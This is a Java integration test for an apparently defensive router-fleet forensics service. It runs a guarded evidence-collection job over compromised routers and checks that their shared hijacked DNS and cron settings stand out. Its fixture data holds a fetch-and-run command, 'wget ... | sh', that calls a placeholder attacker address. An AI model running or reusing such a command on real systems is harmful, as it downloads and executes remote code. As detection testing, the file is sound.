package io.homeshield.fleet.forensics;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;

import io.homeshield.audit.Actor;
import io.homeshield.enforcement.ActionKind;
import io.homeshield.enforcement.EnforcementAction;
import io.homeshield.fleet.remediation.JobProgress;
import io.homeshield.fleet.remediation.JobSettings;
import io.homeshield.fleet.remediation.JobState;
import io.homeshield.fleet.remediation.RemediationJob;
import io.homeshield.fleet.remediation.RemediationKind;
import io.homeshield.fleet.remediation.RemediationService;
import io.homeshield.fleet.remediation.TargetSpec;
import io.homeshield.routers.simulated.SimulatedRouters;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;

/**
 * A campaign's routers give up their evidence through a guarded job — a canary wave that halts on a
 * router out of reach, resumed by the analyst — and the campaign's evidence names what its routers
 * share that the same model's other routers don't.
 */
@QuarkusTest
class CampaignEvidenceJobTest {

    private static final String DNS = "Device.DNS.Client.Server.1.DNSServer";
    private static final String CRON = "Device.X_HS_Cron.Entry.1.Command";
    private static final Actor ANA = new Actor("ana", "analyst");

    @Inject
    SimulatedRouters simulated;

    @Inject
    RemediationService jobs;

    @Inject
    ForensicsService forensics;

    @Inject
    CampaignEvidence campaigns;

    @Test
    void aCollectionJobRunsInGuardedWavesAndTheCampaignsSharedSettingsStandOut() {
        String model = "HS-Box C" + UUID.randomUUID().toString().substring(0, 6);
        List<UUID> campaignRouters = ForensicsTest.routers(model, 6);
        List<UUID> peers = ForensicsTest.routers(model, 6);
        for (UUID router : peers) {
            simulated.setParameter(router, DNS, "10.255.0.53");
            simulated.setParameter(router, "Device.DeviceInfo.ModelName", model);
        }
        for (UUID router : campaignRouters) {
            simulated.setParameter(router, DNS, "198.51.100.23");
            simulated.setParameter(router, CRON, "wget -q -O- http://198.51.100.23/x | sh");
            simulated.setParameter(router, "Device.DeviceInfo.ModelName", model);
            simulated.setParameter(router, "Device.DeviceInfo.SerialNumber", "SN-" + router);
        }
        UUID campaign = campaign(campaignRouters, model);
        simulated.setReachable(campaignRouters.get(1), false);

        RemediationJob job = jobs.start(RemediationKind.COLLECT_EVIDENCE, new TargetSpec(campaign, null, null),
                new JobSettings(2, 2, Duration.ZERO, 30), null, ANA, "Ticket SEC-11: evidence from the campaign");
        await().atMost(Duration.ofSeconds(90)).until(() -> job(job.id).state == JobState.HALTED);
        assertEquals(1, job(job.id).wavesStarted, "the canary's failure halted the job before the next wave");
        assertEquals(new JobProgress(4, 0, 1, 1, 0), jobs.progress(job.id));
        assertEquals(2L, collections(campaignRouters), "nothing was sent beyond the canary");

        simulated.setReachable(campaignRouters.get(1), true);
        jobs.resume(job.id, ANA, "Ticket SEC-11: the access network is back");
        await().atMost(Duration.ofSeconds(90)).until(() -> job(job.id).state == JobState.COMPLETED);
        assertEquals(new JobProgress(0, 0, 5, 1, 0), jobs.progress(job.id));

        for (UUID peer : peers) {
            QuarkusTransaction.requiringNew().run(()
                    -> forensics.collect(peer, ANA, "Ticket SEC-11: peers for the norm"));
        }
        await().atMost(Duration.ofSeconds(60)).until(() -> QuarkusTransaction.requiringNew().call(
                () -> EvidenceSnapshot.count("model = ?1", model)) == 11);

        CampaignEvidence.Summary summary = QuarkusTransaction.requiringNew().call(() -> campaigns.of(campaign));
        assertEquals(6, summary.campaignRouters());
        assertEquals(5, summary.withEvidence());
        assertEquals(6, summary.peers());
        assertEquals(List.of(new CampaignEvidence.SharedFact("Device.DNS.Client.Server.{i}.DNSServer", "198.51.100.23",
                5, 0),
                new CampaignEvidence.SharedFact("Device.X_HS_Cron.Entry.{i}.Command",
                        "wget -q -O- http://198.51.100.23/x | sh", 5, 0)), summary.shared());
        assertTrue(summary.shared().stream().noneMatch(f -> f.key().contains("SerialNumber")));
    }

    private static UUID campaign(List<UUID> routers, String model) {
        UUID id = UUID.randomUUID();
        QuarkusTransaction.requiringNew().run(() -> {
            var em = EvidenceSnapshot.getEntityManager();
            Instant now = Instant.now();
            em.createNativeQuery("insert into fleet_campaign (id, parameter, value_key, first_seen, detected_at,"
                    + " last_seen, routers_at_detection, expected_at_detection, affected, status) values (?1,"
                    + " 'Device.DNS.Client.Server.{i}.DNSServer', '198.51.100.0/24', ?2, ?2, ?2, 6, 0.25, 6, 'ACTIVE')")
                    .setParameter(1, id).setParameter(2, now).executeUpdate();
            for (int i = 0; i < routers.size(); i++) {
                em.createNativeQuery("insert into fleet_campaign_router (campaign_id, router_id, path, new_value,"
                        + " changed_at, model, firmware, network) values (?1, ?2, ?3, '198.51.100.23', ?4, ?5, '2.1.8',"
                        + " 'SIMULATED')").setParameter(1, id).setParameter(2, routers.get(i)).setParameter(3, DNS)
                        .setParameter(4, now.plusSeconds(i)).setParameter(5, model).executeUpdate();
            }
        });
        return id;
    }

    private static RemediationJob job(UUID id) {
        return QuarkusTransaction.requiringNew().call(() -> RemediationJob.findById(id));
    }

    private static long collections(List<UUID> routers) {
        return QuarkusTransaction.requiringNew().call(() -> EnforcementAction.count("routerId in ?1 and kind = ?2",
                routers, ActionKind.COLLECT_EVIDENCE));
    }
}
